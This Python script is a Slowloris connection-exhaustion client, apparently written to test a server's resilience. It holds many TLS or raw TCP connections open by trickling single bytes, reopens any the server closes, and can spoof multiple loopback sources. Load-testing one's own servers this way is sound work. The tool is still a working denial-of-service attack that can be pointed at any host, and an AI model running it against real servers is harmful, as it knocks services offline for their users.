#!/usr/bin/env python3
"""Slowloris client for tests and benchmarks: holds N connections to a TLS
server open, each sending one byte per interval, and opens a new one whenever
the server closes one (as attack tools do, to keep the pressure constant).

Modes (--mode):
  tcp   raw TCP, never finishing the TLS handshake: a TLS record header
        announcing a 512-byte handshake record, then one byte at a time, so
        the server's TLS accept waits for a record that never completes.
  tls   completes the TLS handshake, then sends an HTTP request head one byte
        at a time ("GET / HTTP/1.1", then endless "X-a: b" header lines), so
        the server's HTTP parser waits for a head that never ends.
  mixed half of each.
With --sources K the connections come from K loopback addresses (127.0.0.2
and up), as from K clients.

Prints "ready" on stdout (flushed) once N connections have been opened, then a
status line on stderr every second: connections open (as far as this client
knows), opened in all, and ended by the server. Runs until SIGTERM/SIGINT or
--duration seconds; the last status line follows.
"""
import argparse
import asyncio
import signal
import socket
import ssl
import sys

TLS_RECORD_HEAD = b"\x16\x03\x01\x02\x00"  # handshake record, 512 bytes follow
HTTP_HEAD = b"GET /api/v1/vms HTTP/1.1\r\nHost: slowloris\r\n"
HTTP_FILLER = b"X-a: b\r\n"


class Stats:
    def __init__(self):
        self.open = 0
        self.opened = 0
        self.closed_by_server = 0


def byte_stream(prefix, filler):
    """Yields `prefix` then `filler` forever, one byte at a time."""
    for b in prefix:
        yield bytes([b])
    while True:
        for b in filler:
            yield bytes([b])


def closed_by_peer(sock):
    try:
        data = sock.recv(1, socket.MSG_PEEK | socket.MSG_DONTWAIT)
        return data == b""
    except BlockingIOError:
        return False
    except OSError:
        return True


async def connect(host, port, source):
    loop = asyncio.get_running_loop()
    sock = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    sock.setblocking(False)
    try:
        if source:
            sock.bind((source, 0))
        await loop.sock_connect(sock, (host, port))
    except OSError:
        sock.close()
        raise
    return sock


async def slow_tcp(sock, interval):
    loop = asyncio.get_running_loop()
    for b in byte_stream(TLS_RECORD_HEAD, b"\x00"):
        if closed_by_peer(sock):
            return
        await loop.sock_sendall(sock, b)
        await asyncio.sleep(interval)


async def slow_tls(sock, host, interval):
    ctx = ssl.SSLContext(ssl.PROTOCOL_TLS_CLIENT)
    ctx.check_hostname = False
    ctx.verify_mode = ssl.CERT_NONE
    reader, writer = await asyncio.open_connection(sock=sock, ssl=ctx, server_hostname=host)
    try:
        for b in byte_stream(HTTP_HEAD, HTTP_FILLER):
            if reader.at_eof():
                return
            writer.write(b)
            await writer.drain()
            await asyncio.sleep(interval)
    finally:
        writer.transport.abort()


async def hold_one(host, port, source, mode, interval, stats, first_open):
    """Keeps one slow connection open, replacing it whenever it ends."""
    while True:
        try:
            sock = await connect(host, port, source)
        except OSError:
            await asyncio.sleep(0.05)
            continue
        stats.open += 1
        stats.opened += 1
        if not first_open.done():
            first_open.set_result(None)
        try:
            if mode == "tcp":
                await slow_tcp(sock, interval)
            else:
                await slow_tls(sock, host, interval)
        except (OSError, ssl.SSLError, asyncio.IncompleteReadError, ConnectionError):
            pass  # the server ended it
        finally:  # also on cancellation (our own stop), which propagates
            sock.close()
            stats.open -= 1
        stats.closed_by_server += 1
        await asyncio.sleep(0.01)


async def main():
    p = argparse.ArgumentParser()
    p.add_argument("--host", default="127.0.0.1")
    p.add_argument("--port", type=int, required=True)
    p.add_argument("--conns", type=int, default=500)
    p.add_argument("--mode", choices=["tcp", "tls", "mixed"], default="mixed")
    p.add_argument("--interval", type=float, default=1.0, help="seconds between bytes")
    p.add_argument("--duration", type=float, default=0, help="0: until signalled")
    p.add_argument("--sources", type=int, default=0,
                   help="spread connections over this many source addresses, 127.0.0.2 "
                        "and up (0: the system's choice)")
    a = p.parse_args()

    stats = Stats()
    stop = asyncio.Event()
    loop = asyncio.get_running_loop()
    for sig in (signal.SIGTERM, signal.SIGINT):
        loop.add_signal_handler(sig, stop.set)
    firsts = []
    tasks = []
    for i in range(a.conns):
        mode = a.mode if a.mode != "mixed" else ("tcp" if i % 2 == 0 else "tls")
        source = f"127.0.0.{2 + i % a.sources}" if a.sources else None
        first = loop.create_future()
        firsts.append(first)
        tasks.append(asyncio.create_task(
            hold_one(a.host, a.port, source, mode, a.interval, stats, first)))
        if i % 50 == 49:
            await asyncio.sleep(0.01)  # pace the opening a little
    await asyncio.wait(firsts)
    print("ready", flush=True)

    def status():
        print(f"slowloris: open={stats.open} opened={stats.opened} "
              f"closed_by_server={stats.closed_by_server}", file=sys.stderr, flush=True)

    async def report():
        while True:
            await asyncio.sleep(1)
            status()

    reporter = asyncio.create_task(report())
    if a.duration > 0:
        try:
            await asyncio.wait_for(stop.wait(), a.duration)
        except asyncio.TimeoutError:
            pass
    else:
        await stop.wait()
    reporter.cancel()
    for t in tasks:
        t.cancel()
    await asyncio.gather(*tasks, return_exceptions=True)
    status()


if __name__ == "__main__":
    asyncio.run(main())
